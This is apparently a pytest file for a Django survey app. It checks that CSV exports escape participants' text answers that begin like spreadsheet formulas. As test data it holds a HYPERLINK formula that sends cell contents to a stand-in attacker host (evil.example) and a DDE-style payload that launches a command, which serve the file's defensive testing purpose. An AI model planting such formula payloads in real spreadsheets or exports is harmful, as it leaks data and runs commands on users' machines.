"""Formula injection: a participant's text answer is escaped in the CSV export, numbers not."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

from jobs.models import Job
from surveys.services import response_screen, response_start, responses_export
from tests.surveys.factories import GOOD_ANSWERS, complete

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click for your prize")'


@pytest.fixture
def answered(open_survey):
    for region, comment in (("Seoul", LINK), ("Busan", "@SUM(1+1)*cmd|' /C calc'!A0")):
        response = response_screen(
            response=response_start(survey=open_survey), values={"region": region, "gender": "F"}
        )
        complete(response, {**GOOD_ANSWERS, "comment": comment})
    response = response_screen(
        response=response_start(survey=open_survey), values={"region": "Seoul", "gender": "M"}
    )
    complete(response, {**GOOD_ANSWERS, "comment": "-5", "hours": "8"})
    return open_survey


def rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_text_answers_that_start_a_formula_are_escaped(answered):
    _, content = responses_export(survey=answered, fmt="csv")
    table = rows(content)
    assert [r["comment"] for r in table] == [
        "'" + LINK,
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "-5",  # only a number: a spreadsheet reads it as -5, never as a formula
    ]
    # Numeric columns are written as numbers.
    assert [r["hours"] for r in table] == ["7.0", "7.0", "8.0"]
    assert [r["flagged_attention"] for r in table] == ["0", "0", "0"]
    assert [r["family"] for r in table] == ["4", "4", "4"]


def test_the_raw_export_leaves_the_answer_as_it_was(answered):
    _, content = responses_export(survey=answered, fmt="csv", formula_escape=False)
    assert [r["comment"] for r in rows(content)][:2] == [LINK, "@SUM(1+1)*cmd|' /C calc'!A0"]


def test_raw_from_the_page_the_api_and_the_command(
    client, api_as, researcher, answered, tmp_path, django_capture_on_commit_callbacks
):
    client.force_login(researcher)
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(f"/surveys/{answered.pk}/export/csv/").status_code == 302
        assert client.post(f"/surveys/{answered.pk}/export/csv/", {"raw": "1"}).status_code == 302
    escaped, raw = Job.objects.filter(kind="surveys.export").order_by("created_at")
    assert (escaped.params["raw"], raw.params["raw"]) == (False, True)
    assert rows(escaped.result_file.read())[0]["comment"] == "'" + LINK
    assert rows(raw.result_file.read())[0]["comment"] == LINK

    api = api_as(researcher)
    url = f"/api/surveys/surveys/{answered.pk}/exports/"
    response = api.post(url, {"format": "csv", "raw": True}, format="json")
    assert response.status_code == 202
    assert Job.objects.get(pk=response.json()["job"]).params["raw"] is True

    call_command(
        "export_responses", "--survey", str(answered.pk), "--output", str(tmp_path / "a.csv")
    )
    call_command(
        "export_responses", "--survey", str(answered.pk), "--output", str(tmp_path / "b.csv"),
        "--raw",
    )  # fmt: skip
    assert rows((tmp_path / "a.csv").read_bytes())[0]["comment"] == "'" + LINK
    assert rows((tmp_path / "b.csv").read_bytes())[0]["comment"] == LINK
